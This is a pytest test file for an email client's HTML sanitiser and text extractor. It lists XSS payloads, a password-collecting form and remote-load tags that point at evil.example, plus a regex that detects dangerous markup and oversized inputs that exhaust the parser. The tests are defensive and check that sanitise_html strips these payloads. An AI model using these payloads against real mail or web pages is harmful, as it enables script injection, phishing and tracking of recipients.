import re
import time

import pytest
from tests.unit.message.mail import read_html

from postdesk.message.html_safe import is_safe_to_parse, sanitise_html
from postdesk.message.html_text import NestedTooDeep, read_html_text, strip_tags

ATTACKS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<svg><script xlink:href="data:,alert(1)"></script></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<form action="https://evil.example"><input name="password"><button>go</button></form>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example"></object><embed src="https://evil.example">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{background:url(https://evil.example)}</style>",
    '<p style="background-image:url(https://evil.example/x)">x</p>',
    '<p style="position:fixed;top:0;left:0;z-index:9">x</p>',
    '<p style="behavior:url(x);-moz-binding:url(x)">x</p>',
    '<table background="https://evil.example/x"><tr><td background="https://evil.example/y">x',
    '<img src="//evil.example/x">',
    '<img srcset="https://evil.example/x 2x">',
    '<video poster="https://evil.example/x"></video>',
    '<p id="top" name="x" class="y">x</p>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><img src=x onerror="alert(1)"></template>',
    "<!--><img src=x onerror=alert(1)>-->",
    '<a title=\'<img src="https://evil.example/x">\' href="https://example.org">x</a>',
]
# What would load or run something, standing in a tag. A link that a person clicks is no danger.
DANGEROUS = re.compile(
    r"<[^>]*\s(?:on\w+|src|srcset|background|poster|action|data|xlink:href|id|name)\s*="
    r"|<[^>]*(?:javascript:|data:|url\(|position)|<(?:script|style|form|input|iframe|svg|link|meta)",
    re.IGNORECASE,
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_loads_or_runs_is_left(attack: str) -> None:
    clean = sanitise_html(attack)

    without_quoted = re.sub(r"title=\"[^\"]*\"", "", clean)
    assert not DANGEROUS.search(without_quoted), clean


def test_remote_picture_is_kept_but_not_loaded() -> None:
    clean = sanitise_html('<img src="https://example.org/logo.png" alt="logo" width="10">')

    assert clean == '<img data-remote-src="https://example.org/logo.png" alt="logo" width="10">'


def test_picture_of_the_mail_keeps_its_cid() -> None:
    assert sanitise_html('<IMG SRC="cid:a@b">') == '<img src="cid:a@b">'


def test_sender_cannot_prepare_an_inert_address() -> None:
    assert "evil" not in sanitise_html('<img data-remote-src="https://evil.example">')


def test_link_opens_elsewhere_and_tells_nothing() -> None:
    clean = sanitise_html('<a href="https://example.org" target="_top" rel="opener">x</a>')

    assert 'target="_blank"' in clean
    assert 'rel="noopener noreferrer nofollow"' in clean
    assert "_top" not in clean


def test_formatting_of_ordinary_mail_survives() -> None:
    html = '<table border="1"><tbody><tr><td style="color:red">a</td></tr></tbody></table>'

    assert sanitise_html(html) == html


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>one</p><p>two</p>", "one\n\ntwo"),
        ("<div>one</div><div>two<br>three</div>", "one\ntwo\nthree"),
        ("a&nbsp;b &amp;\n  c", "a b & c"),
        ("<ul><li>x<ol><li>y</li><li>z</li></ol></li></ul>", "- x\n  1. y\n  2. z"),
        ("<table><tr><td>a<td>b<tr><td>c<td>d</table>", "a | b\nc | d"),
        ("<table><tr><td><p>lay</p></td><td><p>out</p></td></tr></table>", "lay\n\nout"),
        ('<a href="https://e.org/x">text</a>', "text <https://e.org/x>"),
        ('<a href="https://e.org/">https://e.org</a>', "https://e.org"),
        ('<a href="mailto:a@e.org">a@e.org</a>', "a@e.org"),
        ('<a href="javascript:x()">text</a>', "text"),
        ("<blockquote>a<blockquote>b</blockquote></blockquote>c", "> a\n>\n> > b\n\nc"),
        ("<pre>  a\n    b</pre>", "  a\n    b"),
        ("<b>bold</b><i>er</i>", "bolder"),
        ("<head><title>t</title></head><style>x</style><script>y</script>z", "z"),
        ('<div style="display: none">preview</div>seen', "seen"),
        ("<p class=MsoNormal>a</p><p class=MsoNormal>b</p>", "a\nb"),
        ("x<hr>y", "x\n--------------------\ny"),
        ("zero\u200b\u200bwidth", "zerowidth"),
        ("", ""),
    ],
)
def test_text_of_html_reads_as_it_looks(html: str, text: str) -> None:
    assert read_html_text(html) == text


EXPLOSIONS = {
    "nested": "<div>" * 40_000 + "words",
    "reopened formatting": "<p>"
    + "".join(f"<font a={n}>" for n in range(1000))
    + "</p>"
    + "<p>words" * 1000,
    "attributes": "<p " + " ".join(f"a{n}=1" for n in range(20_000)) + ">words",
    "large": "words " * 500_000,
}


@pytest.mark.parametrize("html", EXPLOSIONS.values(), ids=EXPLOSIONS.keys())
def test_explosive_html_is_attached_and_its_words_are_read(html: str) -> None:
    started = time.process_time()

    parsed = read_html(html)

    assert time.process_time() - started < 3.0
    assert not is_safe_to_parse(html)
    assert parsed.html == ""
    assert "words" in parsed.text
    assert [attachment.name for attachment in parsed.attachments] == ["message.html"]
    assert "too large or complex" in parsed.problems[0]


def test_deep_html_that_parses_still_gives_its_words() -> None:
    html = "<div>" * 600 + "words"

    with pytest.raises(NestedTooDeep):
        read_html_text(html)
    assert read_html(html).text == "words"


def test_bare_text_leaves_out_scripts_and_tags() -> None:
    html = "<style>x</style><p>one<br>two</p><script>y</script><b>a &lt; b</b><script>open"

    assert strip_tags(html) == "one\ntwo\na < b"
